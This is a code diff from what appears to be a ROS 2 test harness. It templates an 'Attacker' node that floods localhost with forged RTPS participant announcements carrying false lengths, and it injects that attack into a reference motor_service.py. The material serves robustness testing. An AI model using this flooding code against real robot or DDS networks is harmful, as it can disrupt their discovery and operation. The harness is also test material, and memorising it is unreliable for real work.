@@ -29,12 +29,6 @@ def attack(node, sizes):
                 out.sendto(head + body, ('127.0.0.1', port + 2 * participant))
             number += 1
         rclpy.spin_once(node, timeout_sec=0.01)
-
-class Attacker(rclpy.node.Node):
-    def __init__(self, *args, **kwargs):
-        super().__init__(*args, **kwargs)
-        attack(self, {how})
-
 """
 # The announcement of a participant (DATA(p), RTPS 2.3, 8.5.3.2): a list of parameters, of which each says its length.
 # First of hundreds of participants that are not there; then with lengths and contents that lie.
@@ -72,8 +66,9 @@ def attack(node, lie):
                 out.sendto(announcement(prefix, sequence, lie), ('127.0.0.1', port))
             sequence += 1
         rclpy.spin_once(node, timeout_sec=0.01)
-
-class Attacker(rclpy.node.Node):
+"""
+NODE = """
+class Attacker(Node):
     def __init__(self, *args, **kwargs):
         super().__init__(*args, **kwargs)
         attack(self, {how})
@@ -91,11 +86,7 @@ def attacking(attack: str, how: str) -> dict[str, bytes]:
     """The right answer, but that each of its nodes attacks before it does anything else."""
     text = REFERENCE["motor_service.py"].decode()
     assert "(Node)" in text
-    head = (
-        attack.replace("{how}", how)
-        .replace("rclpy.node.Node", "Node")
-        .replace("import rclpy\n", "import rclpy\nfrom rclpy.node import Node\n", 1)
-    )
+    head = attack.replace("import rclpy\n", "import rclpy\nfrom rclpy.node import Node\n", 1) + NODE.replace("{how}", how)
     return REFERENCE | {"motor_service.py": (head + text.replace("(Node)", "(Attacker)")).encode()}
 
 
